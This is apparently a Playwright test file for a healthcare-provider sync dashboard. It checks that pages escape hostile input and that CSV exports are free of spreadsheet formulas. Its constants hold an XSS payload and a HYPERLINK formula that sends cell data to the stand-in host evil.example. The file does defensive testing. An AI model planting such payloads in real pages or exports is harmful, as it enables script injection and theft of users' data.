import type { Browser, Page } from 'playwright-core';
import { closeRun } from '../../src/store/runs/close-run';
import { saveSync } from '../../src/store/save/save-sync';
import { pauseSchedule } from '../../src/temporal/schedules/schedules';
import { launchBrowser, openPage } from '../support/browser';
import { type Site, startSite } from '../support/site';
import { answer, call, openedRun, provider } from '../support/store-fixtures';

/** Text that breaks out of text, attributes, scripts and comments if it is not escaped. */
const HOSTILE = `<img src=x onerror=alert(1)>"'></td></title></noscript><script>alert(2)</script><!--`;
/** One word that is much wider than a phone. */
const LONG = 'Wolfeschlegelsteinhausenbergerdorff'.repeat(5);
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"${HOSTILE}")`;

let browser: Browser;
let site: Site;
let page: Page;
let complaints: string[];
let providerId: string;
let runs: Record<'first' | 'changing' | 'failed', string>;

beforeAll(async () => {
  browser = await launchBrowser();
  site = await startSite();
  const { dataSource, client, config } = site.system;
  const save = async (title: string, attribute: string) => {
    const runId = await openedRun(dataSource, { workflowId: `${HOSTILE}${title}` });
    const people = [
      provider('hostile', {
        givenName: HOSTILE,
        familyName: HOSTILE,
        title,
        clinic: HOSTILE,
        attributes: { [HOSTILE]: attribute, nested: { [HOSTILE]: [HOSTILE] } },
      }),
      provider('formula', { givenName: FORMULA, familyName: FORMULA, title: '@SUM(1)', clinic: '+1' }),
      provider('long', { givenName: LONG, familyName: LONG, title: LONG, clinic: LONG }),
    ];
    const rejected = [
      { position: 0, reason: 'BlankField', field: HOSTILE, raw: JSON.stringify({ [HOSTILE]: HOSTILE }) },
      { position: 1, reason: 'BlankField', field: LONG, raw: JSON.stringify({ long: LONG }) },
    ] as const;
    await saveSync(dataSource, {
      runId,
      partner: 'noteworth',
      feed: 'sample',
      answer: answer(people, { rejected, unknownFields: [HOSTILE], vanishedFields: [HOSTILE, LONG] }),
      calls: [call({ detail: HOSTILE })],
    });
    return runId;
  };
  const first = await save('NP', 'before');
  const changing = await save(HOSTILE, HOSTILE);
  const failed = await openedRun(dataSource, { workflowId: HOSTILE });
  await closeRun(dataSource, {
    runId: failed,
    status: 'failed',
    failure: { type: 'PartnerError', message: `${HOSTILE} ${LONG}` },
    calls: [call({ outcome: 'PartnerError', detail: `${HOSTILE} ${LONG}` })],
  });
  runs = { first, changing, failed };
  const [row] = await dataSource.query<[{ id: string }]>('SELECT id FROM providers WHERE title = $1', [
    HOSTILE,
  ]);
  providerId = row.id;
  await pauseSchedule(client, { partner: 'noteworth', taskQueue: config.taskQueue }, HOSTILE);
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});
beforeEach(async () => {
  ({ page, complaints } = await openPage(browser, { viewport: { width: 360, height: 800 } }));
});
afterEach(() => page.context().close());

const encoded = encodeURIComponent(HOSTILE);
const pages: [name: string, path: () => string, texts: number][] = [
  ['the overview', () => '/', 2],
  ['providers', () => '/providers', 2],
  ['a search', () => `/providers?search=${encoded}&clinic=${encoded}&title=${encoded}`, 2],
  ['a search without a match', () => `/providers?search=unknown${encoded}`, 1],
  ['a provider', () => `/providers/${providerId}`, 6],
  ['runs', () => '/runs', 0],
  ['a run with newcomers', () => `/runs/${runs.first}`, 4],
  ['a run with changes', () => `/runs/${runs.changing}`, 6],
  ['a run that failed', () => `/runs/${runs.failed}`, 3],
  ['a run under its workflow ID', () => `/runs/${encoded}`, 3],
  ['rejected records', () => '/rejected-records', 2],
  ['partners', () => '/partners', 1],
  ['a missing page', () => `/${encoded}`, 0],
  ['a missing provider', () => `/providers/${encoded}`, 0],
  ['an invalid filter', () => `/runs?status=${encoded}`, 0],
];

it.each(pages)('shows hostile text as text on %s', async (_name, path, texts) => {
  await page.goto(`${site.url}${path()}`);
  await page.getByRole('heading', { level: 1 }).waitFor();
  const body = (await page.locator('body').textContent()) ?? '';
  expect(body.split('<img src=x onerror=alert(1)>').length - 1).toBeGreaterThanOrEqual(texts);
  expect(await page.locator('[onerror], [src=x], script:not([src]), main script').count()).toBe(0);
  expect(complaints).toEqual([]);
  expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360);
});

it('shows hostile text as text after a partial update', async () => {
  await page.goto(`${site.url}/providers`);
  await page.getByLabel('Search').fill('img');
  await page.getByText('found').waitFor();
  await page.getByLabel('Search').fill(`unknown ${HOSTILE}`);
  await page.getByText('No match for').waitFor();
  await page.goto(site.url);
  await site.system.sync();
  await page.locator('.strip li').nth(3).waitFor();
  expect(complaints).toEqual([]);
});

describe('an export', () => {
  const lists = ['providers', 'syncs', 'rejected-records'];

  it.each(lists)('of %s as CSV contains no formula', async (list) => {
    const response = await fetch(`${site.url}/api/v1/${list}?format=csv`);
    const text = await response.text();
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toContain('attachment');
    expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
    expect(text).toContain('<img src=x onerror=alert(1)>');
    expect(text).not.toMatch(/(^|,|\n)"?[=+@\-\t]/);
  });

  it.each(lists)('of %s as NDJSON contains the text unchanged', async (list) => {
    const response = await fetch(`${site.url}/api/v1/${list}?format=ndjson`);
    const lines = (await response.text()).trim().split('\n');
    expect(response.headers.get('Content-Type')).toContain('application/x-ndjson');
    expect(lines.map((line) => JSON.parse(line)).some((item) => JSON.stringify(item).includes('<img'))).toBe(
      true,
    );
  });
});
